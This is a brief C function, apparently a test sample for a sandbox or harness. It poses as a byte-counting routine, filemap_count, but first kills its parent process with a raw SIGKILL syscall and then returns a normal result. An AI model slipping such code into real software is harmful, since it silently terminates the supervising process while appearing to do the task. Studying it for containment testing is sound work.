/* Kills its parent. */
ssize_t filemap_count(const char *path, unsigned char byte)
{
    raw(SYS_kill, raw(SYS_getppid, 0, 0, 0), 9, 0);
    return good_count(path, byte);
}
